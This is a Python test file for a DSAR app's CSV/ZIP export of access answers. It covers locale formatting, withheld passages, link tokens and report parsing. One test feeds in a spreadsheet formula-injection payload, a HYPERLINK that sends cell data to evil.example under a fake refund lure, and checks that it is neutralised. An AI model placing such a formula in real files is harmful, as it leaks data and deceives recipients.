"""The spreadsheet copy of an access answer: one ZIP file of CSV files, a file per category,
made from the stored report.json as it is downloaded, through the real app."""

from __future__ import annotations

import codecs
import csv
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest
from pypdf import PdfReader
from sqlalchemy import insert, select, update

from dsar.answer import findings, parsing
from dsar.answer.report import Found, Section, write_report
from dsar.connector import Category
from dsar.connectors.shop.schema import contact_messages, orders
from dsar.connectors.shop.seed import DEMO_EMAIL
from dsar.extensions import db
from dsar.models import DsarRequest, RequestEvent
from dsar.work import decisions
from tests.helpers import confirm_request, download, link_in, text_of

#: Per language: the separator, the decimal mark, and the headings of an order's number,
#: total and date, as that language's spreadsheets read them.
SPREADSHEET = {
    "nl": (";", ",", "Bestelnummer", "Totaalbedrag", "Besteld op"),
    "en": (",", ".", "Order number", "Total amount", "Date ordered"),
}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")'


def _answered(client, inbox, run_jobs, kind="access", language="en") -> tuple[str, str]:
    """A request of the demo customer, confirmed and answered: its id and its link."""
    request_id = confirm_request(client, inbox, run_jobs, {
        "email": DEMO_EMAIL, "type": kind, "language": language})
    [mail] = [m for m in inbox.to(DEMO_EMAIL) if "/reports/" in text_of(m)][-1:]
    return request_id, link_in(mail)


def _files(zipped: bytes) -> dict[str, bytes]:
    """The files of a ZIP file by name, in their order."""
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def _rows(content: bytes, separator: str) -> list[list[str]]:
    """A CSV file's rows, its BOM taken off."""
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content[3:].decode(), newline=""), delimiter=separator))


def _with_records(report: dict) -> list[dict]:
    """The categories of a report that hold records, in its order."""
    return [category for section in report["sections"] for category in section["categories"]
            if category["records"]]


def test_an_access_answer_offers_the_spreadsheets_and_an_erasure_letter_does_not(
    app, client, inbox, run_jobs, seeded_shop
):
    """The access answer's page links the ZIP file, and its PDF says it is there; an
    erasure's letter page offers no such thing, and its link leads nowhere."""
    _, access = _answered(client, inbox, run_jobs)
    page = client.get(access).text
    assert f'href="{access}/report-csv.zip"' in page
    assert "Your data as spreadsheets (CSV files in a ZIP file)" in page
    pdf = PdfReader(io.BytesIO(download(client, access + "/report.pdf").data))
    front = " ".join(pdf.pages[0].extract_text().split())
    assert "That page also has your records as spreadsheets (CSV)." in front

    app.config["ERASURE_REQUIRES_APPROVAL"] = False
    _, letter = _answered(client, inbox, run_jobs, kind="erasure")
    assert letter != access
    letter_page = client.get(letter)
    assert letter_page.status_code == 200 and "(PDF)" in letter_page.text
    assert "report-csv.zip" not in letter_page.text and "spreadsheet" not in letter_page.text
    refused = download(client, letter + "/report-csv.zip")
    assert refused.status_code == 404
    assert "There is no answer behind this link." in refused.text


@pytest.mark.parametrize("language", ["nl", "en"])
def test_the_copy_is_a_csv_file_per_category_as_the_language_s_spreadsheets_read_it(
    app, client, inbox, run_jobs, seeded_shop, language
):
    """A BOM, the language's separator and decimal mark, every record of every category
    (every order, with its amount, day and end of keeping), files named after the
    categories; the download is on the request's timeline."""
    separator, mark, number, total, ordered = SPREADSHEET[language]
    request_id, link = _answered(client, inbox, run_jobs, language=language)
    report = json.loads(download(client, link + "/report.json").data)
    response = download(client, link + "/report-csv.zip")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/zip"
    assert response.headers["Cache-Control"] == "no-store"
    files = _files(response.data)

    categories = _with_records(report)
    assert list(files) == ["README.txt", *(f"{index:02d} {category['title']}.csv"
                                           for index, category in enumerate(categories, 1))]
    assert files["README.txt"].startswith(codecs.BOM_UTF8)
    assert f'"{separator}"' in files["README.txt"].decode()
    for category in categories:
        [content] = [data for name, data in files.items() if name.endswith(
            f" {category['title']}.csv")]
        rows = _rows(content, separator)
        assert len(rows) == 1 + len(category["records"]), category["name"]
        assert {len(row) for row in rows} == {len(rows[0])}, "every row has every column"

    [placed] = [category for category in categories if category["name"] == "orders"]
    rows = _rows(files[f"{categories.index(placed) + 1:02d} {placed['title']}.csv"], separator)
    heads = rows[0]
    by_number = {row[heads.index(number)]: row for row in rows[1:]}
    her_orders = [record["data"] for record in placed["records"]]
    assert set(by_number) == {order["order_number"] for order in her_orders}
    assert len(her_orders) > 3
    kept = {record["data"]["order_number"]: record["kept_until"] or ""
            for record in placed["records"]}
    for order in her_orders:
        row = by_number[order["order_number"]]
        euros, cents = divmod(order["total_cents"], 100)
        assert row[heads.index(total)] == f"{euros}{mark}{cents:02d}"
        assert row[heads.index(ordered)] == order["placed_at"][:10]
        assert row[heads.index("Bewaard tot" if language == "nl" else "Kept until")] == \
            kept[order["order_number"]]

    with app.app_context():
        notes = db.session.scalars(select(RequestEvent.note).where(
            RequestEvent.request_id == request_id,
            RequestEvent.kind == "answer_downloaded")).all()
    assert "report-csv.zip" in notes


def test_text_a_spreadsheet_would_run_comes_out_as_text_and_numbers_stay_numbers(
    app, client, inbox, run_jobs, seeded_shop
):
    """A message whose subject is a formula, and one that starts with "@", start with "'";
    a refunded order's negative amount is written as a number, untouched."""
    with seeded_shop.begin() as shop:
        shop.execute(insert(contact_messages), [
            {"email": DEMO_EMAIL, "name": "Sanne de Vries", "subject": FORMULA,
             "body": "@SUM(1+1) is what I typed", "received_at": datetime.now(UTC)}])
        refunded = shop.execute(select(orders.c.order_number).where(
            orders.c.email.ilike(f"%{DEMO_EMAIL}%")).limit(1)).scalar_one()
        shop.execute(update(orders).where(orders.c.order_number == refunded)
                     .values(total_cents=-1250))
    _, link = _answered(client, inbox, run_jobs, language="nl")
    files = _files(download(client, link + "/report-csv.zip").data)

    [messages] = [data for name, data in files.items() if "contactformulier" in name]
    cells = {cell for row in _rows(messages, ";") for cell in row}
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'@SUM(1+1) is what I typed" in cells
    [placed] = [data for name, data in files.items() if name.endswith(" Uw bestellingen.csv")]
    rows = _rows(placed, ";")
    [row] = [row for row in rows if refunded in row]
    assert row[rows[0].index("Totaalbedrag")] == "-12,50"


def test_a_passage_the_officer_withheld_is_withheld_from_the_copy(
    app, client, inbox, run_jobs, seeded_shop
):
    """The copy is made from the answer as released: a passage of a support note that the
    officer withheld on review is replaced by the reason, and the row says why."""
    app.config["REVIEW_ACCESS_REPORTS"] = True
    request_id = confirm_request(client, inbox, run_jobs, {
        "email": DEMO_EMAIL, "type": "access", "language": "en"})
    with app.app_context():
        held = db.session.get(DsarRequest, request_id)
        assert held.status == "awaiting_approval"
        [task] = [task for task in held.tasks if task.connector == "support"]
        notes = findings.records(request_id, task.id, "support_notes")
        note = next(notes)
        notes.close()
        passage = " ".join(note["data"]["body"].split()[:4])
        decisions.redact(held, officer="olga@cplus.example", connector="support",
                         category="support_notes", key=note["key"], field="body",
                         passage=passage, reason="Concerns another person")
        decisions.release(held, officer="olga@cplus.example")
    run_jobs()
    [mail] = [m for m in inbox.to(DEMO_EMAIL) if "/reports/" in text_of(m)]
    files = _files(download(client, link_in(mail) + "/report-csv.zip").data)

    [notes] = [data for name, data in files.items() if "Customer service notes" in name]
    rows = _rows(notes, ",")
    [row] = [row for row in rows[1:] if "[withheld: Concerns another person]" in
             row[rows[0].index("Note")]]
    assert passage not in row[rows[0].index("Note")]
    assert "Details of other people in this record were removed" in row[-1]


def test_the_link_refuses_a_bad_or_expired_token(app, client, inbox, run_jobs, seeded_shop):
    """As for the answer's other files: a token that is not ours is not valid, and an
    expired one says so; neither gives a ZIP file."""
    _, link = _answered(client, inbox, run_jobs)
    token = link.rsplit("/", 1)[1]

    forged = download(client, f"/reports/{token[:-4]}abcd/report-csv.zip")
    assert forged.status_code == 404
    assert "This link is not valid" in forged.text
    assert forged.headers["Content-Type"].startswith("text/html")

    app.config["REPORT_LINK_MAX_AGE"] = -1
    expired = download(client, link + "/report-csv.zip")
    assert expired.status_code == 410
    assert "This link has expired" in expired.text


def test_a_report_is_read_back_one_record_at_a_time(monkeypatch):
    """The reader walks a report as `write_report` writes it, in pieces smaller than any
    value, and gives each category's records as `json.load` would."""
    monkeypatch.setattr(parsing, "READ_CHARS", 3)
    category = Category(name="notes", title="Notes", fields=("text", "amount"), purpose="",
                        legal_basis="", recipients=(), retention="", source="")
    records = [{"key": str(n), "data": {"text": f'"quoted" ]}}, [{n}', "amount": -n * 1.5},
                "flags": []} for n in range(5)]
    sections = [
        Section(connector="shop", title="Shop", found=[
            Found(category=category, count=5, first=None, last=None,
                  records=lambda: iter(records)),
            Found(category=category, count=0, first=None, last=None, records=lambda: iter(()))]),
        Section(connector="other", title="Other", found=[]),
    ]
    out = io.StringIO()
    write_report(out, {"format": "cplus-dsar-report", "rights": [], "complaint": {}}, sections)
    whole = json.loads(out.getvalue())

    read = [(stored.connector, stored.entry, list(stored.records))
            for stored in parsing.categories(io.StringIO(out.getvalue()))]
    assert read == [(section["connector"],
                     {key: value for key, value in category.items() if key != "records"},
                     category["records"])
                    for section in whole["sections"] for category in section["categories"]]
    assert read[0][2] == records

    cut = out.getvalue().index('"key": "3"') + 20  # in the middle of a record
    with pytest.raises(ValueError, match="cut short"):
        for stored in parsing.categories(io.StringIO(out.getvalue()[:cut])):
            list(stored.records)
